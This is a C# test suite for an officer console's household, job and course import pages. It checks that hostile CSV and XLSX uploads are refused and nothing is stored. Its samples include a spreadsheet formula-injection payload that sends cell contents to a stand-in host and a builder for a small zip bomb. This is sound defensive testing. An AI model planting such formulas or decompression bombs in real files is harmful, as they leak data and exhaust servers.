using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using HaiHau.InfoBot.Content.Listings;
using HaiHau.InfoBot.Host.OfficerConsole;
using HaiHau.InfoBot.Host.Register;
using HaiHau.InfoBot.Host.Tests.OfficerConsole;
using HaiHau.InfoBot.Storage;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace HaiHau.InfoBot.Host.Tests.Hardening;

/// <summary>
/// Hostile files on the three import pages (households, jobs, courses; CSV and XLSX), from issue 14: each gets a
/// clear Vietnamese refusal on the page (never a 500), quotes at most a short excerpt of what it refuses, and stores
/// nothing.
/// </summary>
public sealed class ImportHostileFileTests(ImportHostileFileTests.Host host) : IClassFixture<ImportHostileFileTests.Host>
{
    private const string HouseholdHeader = "Mã hộ,Xã/thị trấn,Phân loại (nghèo/cận nghèo),Chủ hộ";

    public sealed class Host : HostTestBase, IAsyncLifetime
    {
        public InfoBotApp App { get; private set; } = null!;

        public ConsoleClient Officer { get; private set; } = null!;

        public async Task InitializeAsync()
        {
            App = NewApp();
            await ConsoleClient.CreateAccountAsync(App, "huyen@haihau.test", ConsoleRoles.Officer);
            Officer = await ConsoleClient.SignedInAsync(App, "huyen@haihau.test");
        }

        public async Task DisposeAsync() => await App.DisposeAsync();
    }

    public static TheoryData<string, string, string> Files
    {
        get
        {
            var data = new TheoryData<string, string, string>();
            foreach (var page in new[] { "/admin/households", "/admin/jobs", "/admin/courses" })
            {
                data.Add(page, "an XLSX renamed .csv", "không phải tệp chữ");
                data.Add(page, "NUL bytes as .csv", "không phải tệp chữ");
                data.Add(page, "text renamed .xlsx", "không mở được");
                var households = page == "/admin/households";
                data.Add(page, "a header-only CSV without a line break", households ? "không có dòng dữ liệu" : "hiếu cột");
                data.Add(page, "one data line, no header", households ? "không có dòng dữ liệu" : "hiếu cột");
                data.Add(page, "a 5,000-character cell (CSV)", "dài quá");
                data.Add(page, "a 5,000-character cell (XLSX)", "dài quá");
                data.Add(page, "a 40 MB cell packed small (XLSX)", "giải nén ra lớn quá");
                data.Add(page, "more rows than the bound (CSV)", "dòng dữ liệu");
            }

            data.Add("/admin/households", "a household code that is a formula", "Mã hộ «=HYPERLINK(");
            return data;
        }
    }

    [Theory]
    [MemberData(nameof(Files))]
    public async Task A_hostile_file_gets_a_clear_refusal_and_nothing_is_stored(string page, string label, string expected)
    {
        var (bytes, name) = Make(label);
        var before = await CountAsync();

        var html = await UploadAsync(page, bytes, name);

        Assert.True(html.Contains(expected, StringComparison.Ordinal), $"{label} on {page}: «{expected}» not on the page");
        Assert.DoesNotContain(new string('A', 100), html, StringComparison.Ordinal); // a refused value is quoted short, if at all
        Assert.Equal(before, await CountAsync());
    }

    [Fact]
    public void A_small_XLSX_with_one_huge_cell_is_refused_without_unpacking_it_into_memory()
    {
        var (bytes, _) = Make("a 40 MB cell packed small (XLSX)");
        using var file = new MemoryStream(bytes);
        var allocatedBefore = GC.GetAllocatedBytesForCurrentThread();

        var (rows, problems) = HouseholdFileReader.Read(file, "ds.xlsx");

        var allocated = GC.GetAllocatedBytesForCurrentThread() - allocatedBefore;
        Assert.Empty(rows);
        Assert.Contains("giải nén ra lớn quá", Assert.Single(problems), StringComparison.Ordinal);
        Assert.True(allocated < 4 * 1024 * 1024, $"{allocated:N0} bytes allocated for a {bytes.Length:N0}-byte file");
    }

    private static (byte[] Bytes, string Name) Make(string label) => label switch
    {
        "an XLSX renamed .csv" => (Xlsx("HA-01"), "ds.csv"),
        "NUL bytes as .csv" => ([0x4D, 0x00, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04], "ds.csv"),
        "text renamed .xlsx" => (Encoding.UTF8.GetBytes(HouseholdHeader + "\nHA-01,Hải An,nghèo,A\n"), "ds.xlsx"),
        "a header-only CSV without a line break" => (Encoding.UTF8.GetBytes(HouseholdHeader), "ds.csv"),
        "one data line, no header" => (Encoding.UTF8.GetBytes("HA-01,Hải An,nghèo,Nguyễn Văn A"), "ds.csv"),
        "a 5,000-character cell (CSV)" => (Encoding.UTF8.GetBytes(HouseholdHeader + "\nHA-01,Hải An,nghèo," + new string('A', 5000) + "\n"), "ds.csv"),
        "a 5,000-character cell (XLSX)" => (Xlsx(new string('A', 5000)), "ds.xlsx"),
        "a 40 MB cell packed small (XLSX)" => (Xlsx("PLACEHOLDER", hugeCellBytes: 40 * 1024 * 1024), "ds.xlsx"),
        "more rows than the bound (CSV)" => (Encoding.UTF8.GetBytes(HouseholdHeader + "\n" + string.Concat(
            Enumerable.Range(1, ImportFileGuard.MaxRows + 1).Select(i => $"HA-{i},Hải An,nghèo,Chủ hộ {i}\n"))), "ds.csv"),
        "a household code that is a formula" => (Encoding.UTF8.GetBytes(HouseholdHeader + "\n\"=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Xem\"\")\",Hải An,nghèo,A\n"), "ds.csv"),
        _ => throw new ArgumentOutOfRangeException(nameof(label)),
    };

    /// <summary>An XLSX of the household header and one row whose head's name is <paramref name="name"/>; or, with
    /// <paramref name="hugeCellBytes"/>, that cell rewritten inside the zip to that many letters (packed to a few dozen KB).</summary>
    private static byte[] Xlsx(string name, int hugeCellBytes = 0)
    {
        var rows = new[] { new Dictionary<string, object?> { ["Mã hộ"] = "HA-01", ["Xã/thị trấn"] = "Hải An", ["Phân loại (nghèo/cận nghèo)"] = "nghèo", ["Chủ hộ"] = name } };
        using var built = new MemoryStream();
        MiniExcelLibs.MiniExcel.SaveAs(built, rows, excelType: MiniExcelLibs.ExcelType.XLSX);
        if (hugeCellBytes == 0)
        {
            return built.ToArray();
        }

        using var output = new MemoryStream();
        using (var source = new ZipArchive(new MemoryStream(built.ToArray()), ZipArchiveMode.Read))
        using (var target = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in source.Entries)
            {
                string xml;
                using (var reader = new StreamReader(entry.Open()))
                {
                    xml = reader.ReadToEnd();
                }

                using var writer = new StreamWriter(target.CreateEntry(entry.FullName, CompressionLevel.SmallestSize).Open());
                var at = xml.IndexOf(name, StringComparison.Ordinal);
                if (at < 0)
                {
                    writer.Write(xml);
                    continue;
                }

                writer.Write(xml.AsSpan(0, at));
                var chunk = new string('A', 64 * 1024);
                for (var written = 0; written < hugeCellBytes; written += chunk.Length)
                {
                    writer.Write(chunk);
                }

                writer.Write(xml.AsSpan(at + name.Length));
            }
        }

        return output.ToArray();
    }

    private async Task<string> UploadAsync(string page, byte[] file, string name)
    {
        var token = await host.Officer.TokenAsync(page);
        using var form = new MultipartFormDataContent();
        var bytes = new ByteArrayContent(file);
        bytes.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        form.Add(bytes, "file", name);
        form.Add(new StringContent("2022"), "year");
        form.Add(new StringContent("true"), "acceptValid"); // even keeping the valid rows, nothing of these files is stored
        form.Add(new StringContent(token), "__RequestVerificationToken");
        using var response = await host.Officer.Http.PostAsync(page == "/admin/households" ? page : page + "?handler=Import", form);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadAsStringAsync();
    }

    private async Task<(int Households, int Jobs, int Courses)> CountAsync()
    {
        await using var db = await host.App.Services.GetRequiredService<IDbContextFactory<InfoBotDbContext>>().CreateDbContextAsync();
        return (await db.Households.CountAsync(), await db.JobListings.CountAsync(), await db.Courses.CountAsync());
    }
}
